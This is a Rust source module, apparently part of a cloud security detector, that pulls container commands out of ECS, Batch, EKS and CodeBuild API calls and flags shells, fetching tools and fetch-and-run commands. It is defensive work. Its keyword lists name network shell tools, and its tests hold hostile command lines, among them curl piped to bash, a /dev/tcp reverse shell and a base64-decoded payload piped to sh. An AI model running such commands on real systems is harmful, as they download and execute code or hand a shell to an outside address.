//! Commands that containers are told to run, and what they look like: an ordinary program, a shell, a tool that
//! fetches something, or lines that fetch code and run it.

use serde_json::Value;

use crate::event::ApiCall;

/// The parts of a request that set aside what a definition says.
const OVERRIDES: [&str; 6] = [
    "overrides",
    "containerOverrides",
    "nodeOverrides",
    "ecsPropertiesOverride",
    "eksPropertiesOverride",
    "buildspecOverride",
];

/// The parts of a request that make a definition.
const DEFINITIONS: [&str; 5] =
    ["containerDefinitions", "containerProperties", "nodeProperties", "ecsProperties", "eksProperties"];

/// The commands of the call's overrides, each as its words.
pub(super) fn overridden(call: &ApiCall) -> Vec<Vec<&str>> {
    commands(call, &OVERRIDES)
}

/// The commands of the definition that the call makes, each as its words.
pub(super) fn defined(call: &ApiCall) -> Vec<Vec<&str>> {
    commands(call, &DEFINITIONS)
}

fn commands<'a>(call: &'a ApiCall, parts: &[&str]) -> Vec<Vec<&'a str>> {
    let mut found = Vec::new();
    for part in parts.iter().filter_map(|part| call.request(part)) {
        match part {
            // A build specification is a text of lines.
            Value::String(text) => found.push(vec![text.as_str()]),
            part => collect(part, &mut found),
        }
    }
    found
}

fn collect<'a>(value: &'a Value, found: &mut Vec<Vec<&'a str>>) {
    match value {
        Value::Array(members) => members.iter().for_each(|member| collect(member, found)),
        Value::Object(members) => {
            for (key, value) in members {
                match value {
                    Value::Array(words) if is_command(key) => {
                        found.push(words.iter().filter_map(Value::as_str).collect());
                    }
                    value => collect(value, found),
                }
            }
        }
        _ => {}
    }
}

fn is_command(key: &str) -> bool {
    ["command", "args", "entryPoint"].iter().any(|name| key.eq_ignore_ascii_case(name))
}

/// Whether a command starts a shell, lets an interpreter run a line, or starts a tool that fetches something.
pub(super) fn is_shell(words: &[&str]) -> bool {
    let Some(first) = words.iter().flat_map(|word| word.split_whitespace()).next() else { return false };
    let program = program(first);
    let shells = ["sh", "bash", "ash", "dash", "zsh", "ksh", "powershell", "pwsh", "cmd"];
    let interprets = ["python", "python2", "python3", "perl", "ruby", "node", "php"];
    let line = |word: &&str| ["-c", "-e", "-r", "--eval"].contains(word);
    shells.contains(&program.as_str())
        || FETCHING.contains(&program.as_str())
        || interprets.contains(&program.as_str()) && words.iter().any(line)
}

/// Tools that fetch from, or speak with, an address.
const FETCHING: [&str; 9] = ["curl", "wget", "nc", "ncat", "netcat", "socat", "certutil", "bitsadmin", "busybox"];

/// The name of a program without its folder and its ending.
fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

/// Whether a command fetches code and runs it, or gives a shell to an address.
pub(super) fn runs_fetched_code(words: &[&str]) -> bool {
    let text = words.join(" ").to_ascii_lowercase();
    let has = |marks: &[&str]| marks.iter().any(|mark| text.contains(mark));
    let fetches = has(&[
        "curl ",
        "wget ",
        "invoke-webrequest",
        "iwr ",
        "downloadstring",
        "urlopen",
        "urlretrieve",
        "aws s3 cp",
        "certutil",
    ]);
    let pipes = text.split('|').skip(1).any(|after| {
        let next = after.split_whitespace().find(|word| !["sudo", "env", "exec"].contains(word)).unwrap_or_default();
        ["sh", "bash", "ash", "dash", "zsh", "python", "python3", "perl", "iex"].contains(&program(next).as_str())
    });
    let runs = pipes
        || has(&[
            "chmod +x",
            "chmod 7",
            "<(curl",
            "<(wget",
            "$(curl",
            "$(wget",
            "eval ",
            "exec(",
            "iex ",
            "iex(",
            "start-process",
        ]);
    let decodes = has(&["base64 -d", "base64 --decode", "frombase64string", "b64decode"]);
    let calls_home =
        has(&["/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "socat exec", "mkfifo ", " -encodedcommand ", " -enc "]);
    fetches && runs || decodes && (pipes || runs) || calls_home
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_and_tools_that_fetch_are_known_by_their_names() {
        for (words, want) in [
            (vec!["sh", "-c", "id"], true),
            (vec!["/bin/bash"], true),
            (vec!["/usr/bin/curl", "https://example.net"], true),
            (vec!["sh -c id"], true),
            (vec!["python3", "-c", "print(1)"], true),
            (vec!["C:\\Windows\\System32\\cmd.exe", "/c", "dir"], true),
            (vec!["python3", "manage.py", "migrate"], false),
            (vec!["node", "server.js"], false),
            (vec!["shuffle", "-c"], false),
            (vec![], false),
        ] {
            assert_eq!(is_shell(&words), want, "{words:?}");
        }
    }

    #[test]
    fn code_that_is_fetched_and_run_is_told_from_what_is_only_fetched() {
        for (words, want) in [
            (vec!["sh", "-c", "curl -s https://example.net/x | bash"], true),
            (vec!["sh", "-c", "wget -q https://example.net/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"], true),
            (vec!["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"], true),
            (vec!["sh", "-c", "echo aWQK | base64 -d | sh"], true),
            (vec!["powershell", "-enc", "SQBFAFgA", " -enc "], true),
            (vec!["sh", "-c", "curl -sf http://localhost/health"], false),
            (vec!["sh", "-c", "python manage.py migrate | tee log"], false),
            (vec!["sh", "-c", "echo done | base64 -d"], false),
        ] {
            assert_eq!(runs_fetched_code(&words), want, "{words:?}");
        }
    }
}
